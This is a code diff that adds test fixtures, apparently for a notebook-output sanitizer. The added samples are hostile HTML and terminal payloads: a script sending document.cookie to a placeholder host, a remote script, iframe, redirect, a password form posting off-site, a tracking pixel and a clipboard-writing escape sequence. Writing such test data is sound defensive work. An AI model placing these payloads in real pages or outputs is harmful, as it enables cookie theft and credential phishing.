@@ -29,6 +29,17 @@ _OUTPUTS = {
         "data": {"application/vnd.plotly.v1+json": {"data": [{"hovertext": ["anna.berger@kontor-nord.de"]}]}},
     },
 }
+_OUTPUTS |= {
+    "hostile-script": display(text_html="<script>fetch('https://c.invalid/?' + document.cookie)</script>"),
+    "remote-script": display(text_html='<script src="https://c.invalid/widget.js"></script>'),
+    "inline-script": display(application_javascript="element.append('hello')"),
+    "script-link": display(text_html='<a href="javascript:start()">menu</a>'),
+    "remote-frame": display(text_html='<iframe src="https://c.invalid/page"></iframe>'),
+    "page-redirect": display(text_html='<meta http-equiv="refresh" content="0; url=https://c.invalid/">'),
+    "remote-form": display(text_html='<form action="https://c.invalid/"><input type="password"></form>'),
+    "remote-beacon": display(text_markdown='<img src="https://c.invalid/p.gif" width="1" height="1">'),
+    "terminal-sequences": stream("\x1b]52;c;Y3VybA==\x07done"),
+}
 _SHARED_EXAMPLES = [
     (name, source, kind)
     for name, rule in catalogue.rules().items()
